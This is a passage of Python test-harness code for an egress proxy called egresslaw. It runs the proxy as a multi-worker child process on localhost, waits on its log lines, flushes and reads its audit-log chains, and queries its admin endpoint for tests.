    return cls("127.0.0.1", listen, threaded, resolver, capture, env, env.confdir / "mitmproxy-ca-cert.pem", ups)


def stop_proxy(p: RunningProxy) -> None:
    if p.fleet is not None:
        p.fleet.stop()
        return
    try:
        p.threaded.stop()
    finally:
        root = logging.getLogger()
        root.removeHandler(p.logs)
        root.setLevel(getattr(p.logs, "old_level", logging.WARNING))


# ---------------------------------------------------------------------------------------------
# `egresslaw proxy --workers N` in a child process
# ---------------------------------------------------------------------------------------------

IN_PROCESS_ONLY = ("reaches into the in-process proxy (its addon, edge, metrics object or injected resolver); "
                   "EGRESSLAW_TEST_WORKERS runs `egresslaw proxy --workers N` in a child process")
# start_proxy's mitmproxy/addon options that the command line has flags for
_OPTION_FLAGS = {"tcp_timeout": "--idle-timeout", "egresslaw_max_response": "--max-response",
                 "egresslaw_rule_max_response": "--rule-max-response", "egresslaw_max_decoded": "--max-decoded"}


class _InProcessOnly:
    """Stands for the in-process edge of a proxy that runs in a child process: touching it skips the test."""

    def __getattr__(self, name: str):
        import pytest

        pytest.skip(IN_PROCESS_ONLY)


def clean_environment(**extra: str) -> dict[str, str]:
    """This process's environment without EGRESSLAW_* settings and proxy variables (a child proxy and its clients), the
    test run's proof-signing key trusted (the production gate)."""
    base = {k: v for k, v in os.environ.items() if not k.startswith("EGRESSLAW_") and "proxy" not in k.lower()}
    return {**base, "EGRESSLAW_TRUST_PROOFS": str(proof_signing_key()[1]), **extra}


class FleetProcess:
    """`egresslaw proxy --workers N` as a child process, its stderr (every worker's too) read line by line."""

    def __init__(self, env: Env, args: list[str], *, workers: int = 2, listen: int | None = None, admin: int | None = None,
                 log_level: str = "debug", capture: LogCapture | None = None, timeout: float = 120.0) -> None:
        self.env, self.workers = env, workers
        self.port, self.admin = listen or free_port(), admin or free_port()
        self.lines = capture.lines if capture is not None else []
        self._lock = capture._lock2 if capture is not None else threading.Lock()
        self._flush = threading.Lock()
        argv = [sys.executable, "-m", "egresslaw", "proxy", "--workers", str(workers), "--artifact", str(env.artifact),
                "--proof", str(env.proof), "--keys", str(env.keys), "--store", str(env.store), "--audit-log", str(env.audit),
                "--confdir", str(env.confdir), "--listen", f"127.0.0.1:{self.port}", "--admin", f"127.0.0.1:{self.admin}",
                "--log-level", log_level, *args]
        self.proc = subprocess.Popen(argv, cwd=ROOT, env=clean_environment(), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                                     stderr=subprocess.PIPE, text=True, errors="replace")
        self._reader = threading.Thread(target=self._read, daemon=True, name="fleet-stderr")
        self._reader.start()
        self.returncode: int | None = None
        import atexit

        atexit.register(self._orphaned)  # a fixture that fails (or skips) after starting it never stops it: the test process does
        if not self.wait_line("egresslaw proxy listening on", timeout=timeout):
            code = self.stop()
            raise RuntimeError(f"`egresslaw proxy --workers {workers}` did not start (exit {code}):\n" + self.text()[-4000:])

    def _read(self) -> None:
        assert self.proc.stderr is not None
        for line in self.proc.stderr:
            with self._lock:
                self.lines.append(line.rstrip("\n"))

    def text(self) -> str:
        with self._lock:
            return "\n".join(self.lines)

    def count(self, needle: str) -> int:
        with self._lock:
            return sum(1 for line in self.lines if needle in line)

    def wait_line(self, needle: str, n: int = 1, timeout: float = 30.0) -> bool:
        """Until `needle` has appeared in `n` stderr lines (False if the process exits or `timeout` passes first)."""
        deadline = time.time() + timeout
        while self.count(needle) < n:
            if time.time() > deadline or (self.proc.poll() is not None and not self._reader.is_alive()):
                return False
            time.sleep(0.02)
        return True

    def flush(self) -> None:
        """SIGUSR1: every worker's audit events so far are durable once the supervisor logs it."""
        if self.proc.poll() is not None:
            return  # stopped: every worker closed (and synced) its log
        with self._flush:
            done = self.count("audit logs flushed")
            self.proc.send_signal(signal.SIGUSR1)
            assert self.wait_line("audit logs flushed", done + 1), "the proxy did not confirm the flush"

    def audit_files(self) -> list[Path]:
        from egress_proxy.audit.verify import audit_logs

        try:
            return [path for segments in audit_logs(self.env.audit) for path, _ in segments]
        except Exception:
            return []

    def events(self) -> list[list[dict]]:
        """Each worker's events (its own records left out), in the order of its chain; flushed first."""
        from egress_proxy.audit.log import OWN_KINDS
        from egress_proxy.audit.verify import audit_logs

        self.flush()
        chains = []
        for segments in audit_logs(self.env.audit):
            lines: list[bytes] = []
            for path, _ in segments:
                data = path.read_bytes()
                lines += data[: data.rfind(b"\n") + 1].splitlines()
            chains.append([e for e in map(json.loads, lines) if e["kind"] not in OWN_KINDS and e["kind"] != "worker"])
        return chains

    def admin_get(self, path: str, token: bool = True) -> tuple[int, str]:
        import http.client

        conn = http.client.HTTPConnection("127.0.0.1", self.admin, timeout=10)
        headers = {"Authorization": f"Bearer {(self.env.confdir / 'admin.token').read_text().strip()}"} if token else {}
        conn.request("GET", path, headers=headers)
        resp = conn.getresponse()
        body = resp.read().decode()
        conn.close()
        return resp.status, body

    def worker_pids(self) -> list[int]:
        """The supervisor's children (its worker processes), from /proc."""
        children = Path(f"/proc/{self.proc.pid}/task/{self.proc.pid}/children")
        return [int(pid) for pid in children.read_text().split()] if children.exists() else []

    def _orphaned(self) -> None:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            with contextlib.suppress(subprocess.TimeoutExpired):
                self.proc.wait(30)

    def stop(self, sig: int = signal.SIGTERM, timeout: float = 90.0) -> int:
        if self.proc.poll() is None:
            self.proc.send_signal(sig)
        try:
            self.returncode = self.proc.wait(timeout)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.returncode = self.proc.wait()
        self._reader.join(10)
        return self.returncode


def _merged(chains: list[list[dict]]) -> list[dict]:
    """Several workers' events as one list, by time (a chain's own order kept for equal times)."""
    tagged = [(e.get("ts", ""), i, n, e) for i, chain in enumerate(chains) for n, e in enumerate(chain)]
    return [e for *_, e in sorted(tagged, key=lambda t: t[:3])]


def _start_fleet(env: Env, pki: Pki, ups: tuple, connect_to: list[str], *, resolver, listen, custody, extra_options, log_level,
                 proxy_class, nameservers, dns_timeout, config, drain_grace) -> RunningProxy:
    """start_proxy's fleet mode: the same proxy as `egresslaw proxy --workers N` in a child process."""
    import pytest

    if custody is not None:
        pytest.skip(IN_PROCESS_ONLY + " (an injected custody store)")
    args = [x for route in connect_to for x in ("--connect-to", route)] + ["--upstream-ca", str(pki.ca_pem), "--drain-grace", str(drain_grace),
                                                                             "--dns-timeout", str(dns_timeout)]
    for name, value in (extra_options or {}).items():
        if name not in _OPTION_FLAGS:
            pytest.skip(f"sets mitmproxy option `{name}`, which `egresslaw proxy` has no flag for")
        args += [x for v in (value if isinstance(value, (list, tuple)) else [value]) for x in (_OPTION_FLAGS[name], str(v))]
    for name, value in (config or {}).items():
        flag = "--" + name.replace("_", "-")
        args += [x for v in (value if isinstance(value, (list, tuple)) else [value]) for x in (flag, str(v))]
    resolver = resolver or ScriptedResolver()
    bridge = None
    if nameservers:
        args += [x for ns in nameservers for x in ("--nameserver", ns)]
    else:
        from tests.dns_standin import ScriptedDns

        bridge = ScriptedDns(resolver)
        args += ["--nameserver", bridge.nameserver]
    capture = LogCapture()
    try:
        fleet = FleetProcess(env, args, workers=TEST_WORKERS, listen=listen, log_level=logging.getLevelName(log_level).lower(), capture=capture)
    except BaseException:
        if bridge is not None:
            bridge.stop()
        raise
    if bridge is not None:
        stop = fleet.stop

        def stop_both(*a, **kw) -> int:
            try:
                return stop(*a, **kw)
            finally:
                bridge.stop()

        fleet.stop = stop_both  # type: ignore[method-assign]
    cls = proxy_class or RunningProxy
    return cls("127.0.0.1", fleet.port, _InProcessOnly(), resolver, capture, env, env.confdir / "mitmproxy-ca-cert.pem", ups, fleet=fleet)
